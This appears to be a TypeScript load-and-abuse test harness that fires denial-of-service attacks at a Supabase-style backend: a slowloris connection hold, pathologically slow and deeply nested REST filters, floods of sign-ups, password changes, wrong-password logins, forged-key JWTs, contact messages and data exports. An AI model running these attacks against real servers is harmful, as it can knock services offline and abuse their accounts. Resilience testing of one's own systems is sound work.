import { randomBytes, randomUUID } from 'node:crypto';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { ANALYZE } from './testServer.ts';

/** What an attacker has: the address, the key that every browser has, and their own accounts. */
export type Target = {
  url: string;
  publishableKey: string;
  /** A member with 2,000 entries in their history. */
  member: Account;
  /** The members that analyze, each with a subscription, so that no quota protects the server. */
  analysts: Account[];
  /** Distinct texts of 4,000 characters. */
  texts: string[];
};

export type Account = { id: string; email: string; password: string; token: string };

/** How long a repeating attack lasts. */
const REPEATING_MS = 10_000;

/** Each resolves with a short summary of the answers that the attacker got. */
export const ATTACKS = {
  'slow filters, 60 connections closed after 120 ms, again and again': slowFilters,
  '64 sign-ups at once, one address': (target) => signUps(target, () => 'same@attack.example'),
  '64 sign-ups at once, 64 addresses': (target) => signUps(target, () => `${randomUUID()}@attack.example`),
  '64 password changes at once by one member': passwordChanges,
  'filters nested 2,500 deep, again and again': nestedFilters,
  '500 connections that send a byte a second': slowLoris,
  '200 tokens with unknown keys': unknownKeys,
  '64 wrong passwords at once': wrongPasswords,
  '20 analyses of 4,000 characters at a time by 10 members, again and again': analyses,
  '200 messages to support at once': contactFlood,
  '32 exports of 2,000 entries at once by one member': exports,
} satisfies Record<string, (target: Target) => Promise<string>>;

async function slowFilters(target: Target): Promise<string> {
  // None matches, so each row is compared with all of them.
  const filters = Array.from({ length: 300 }, (_, n) => `name.ilike.*%25q${n}%25z*`).join(',');
  const path = `/rest/v1/mental_models_library?select=id&or=(${filters})`;
  const headers = { apikey: target.publishableKey };
  return repeat(60, () =>
    fetch(target.url + path, { headers, signal: AbortSignal.timeout(120) }).then(
      (response) => String(response.status),
      () => 'closed',
    ),
  );
}

async function nestedFilters(target: Target): Promise<string> {
  const path = `/rest/v1/mental_models_library?select=id&or=${'(or'.repeat(2_500)}(id.eq.1)${')'.repeat(2_500)}`;
  const headers = { apikey: target.publishableKey };
  return repeat(8, () => statusOf(target.url + path, { headers }));
}

async function signUps(target: Target, address: () => string): Promise<string> {
  return atOnce(64, () =>
    statusOf(`${target.url}/auth/v1/signup`, json(target, { email: address(), password: randomUUID() })),
  );
}

async function passwordChanges(target: Target): Promise<string> {
  const request = () => ({ ...json(target, { password: randomUUID() }, target.member.token), method: 'PUT' });
  return atOnce(64, () => statusOf(`${target.url}/auth/v1/user`, request()));
}

async function wrongPasswords(target: Target): Promise<string> {
  const { email } = target.member;
  return atOnce(64, () =>
    statusOf(`${target.url}/auth/v1/token?grant_type=password`, json(target, { email, password: randomUUID() })),
  );
}

async function slowLoris(target: Target): Promise<string> {
  const { hostname, port, host } = new URL(target.url);
  const ended = new Set<Socket>();
  const sockets = Array.from({ length: 500 }, () => {
    const socket = connect(Number(port), hostname);
    socket.on('error', () => undefined).once('close', () => ended.add(socket));
    socket.write(`GET / HTTP/1.1\r\nHost: ${host}\r\nX-Slow: `);
    return socket;
  });
  for (const until = performance.now() + REPEATING_MS; performance.now() < until; await sleep(1_000)) {
    for (const socket of sockets) if (!ended.has(socket)) socket.write('x');
  }
  const open = sockets.length - ended.size;
  for (const socket of sockets) socket.destroy();
  return `${open} open at the end`;
}

async function unknownKeys(target: Target): Promise<string> {
  const [, payload] = target.member.token.split('.');
  const forged = () => {
    const header = Buffer.from(JSON.stringify({ alg: 'ES256', typ: 'JWT', kid: randomUUID() })).toString('base64url');
    return `${header}.${payload}.${randomBytes(64).toString('base64url')}`;
  };
  return atOnce(200, () =>
    statusOf(`${target.url}/functions/v1/limits`, { headers: { authorization: `Bearer ${forged()}` } }),
  );
}

async function analyses(target: Target): Promise<string> {
  let next = 0;
  return repeat(20, () => {
    const account = target.analysts[next % target.analysts.length];
    const query = target.texts[next++ % target.texts.length];
    return statusOf(target.url + ANALYZE, json(target, { query, queryType: 'manual' }, account?.token));
  });
}

async function contactFlood(target: Target): Promise<string> {
  return atOnce(200, () => {
    const body = { email: `${randomUUID()}@attack.example`, subject: 'Hello', message: 'Hello there. '.repeat(150) };
    return statusOf(`${target.url}/functions/v1/contact`, json(target, body));
  });
}

async function exports(target: Target): Promise<string> {
  const headers = { authorization: `Bearer ${target.member.token}` };
  return atOnce(32, () => statusOf(`${target.url}/functions/v1/export-data`, { headers }));
}

function json(target: Target, body: unknown, token?: string): RequestInit {
  return {
    method: 'POST',
    headers: {
      apikey: target.publishableKey,
      'content-type': 'application/json',
      ...(token && { authorization: `Bearer ${token}` }),
    },
    body: JSON.stringify(body),
  };
}

async function statusOf(url: string, init: RequestInit): Promise<string> {
  try {
    const response = await fetch(url, { ...init, signal: AbortSignal.timeout(20_000) });
    await response.arrayBuffer();
    return String(response.status);
  } catch (error) {
    return error instanceof Error && error.name === 'TimeoutError' ? 'none in 20 s' : 'closed';
  }
}

async function atOnce(times: number, request: () => Promise<string>): Promise<string> {
  return counted(await Promise.all(Array.from({ length: times }, request)));
}

/** Keeps this many requests in progress for the duration of an attack. */
async function repeat(lanes: number, request: () => Promise<string>): Promise<string> {
  const until = performance.now() + REPEATING_MS;
  const answers: string[] = [];
  const lane = async () => {
    while (performance.now() < until) answers.push(await request());
  };
  await Promise.all(Array.from({ length: lanes }, lane));
  return counted(answers);
}

function counted(answers: string[]): string {
  const times = new Map<string, number>();
  for (const answer of answers) times.set(answer, (times.get(answer) ?? 0) + 1);
  return [...times].map(([answer, count]) => `${count} × ${answer}`).join(', ');
}
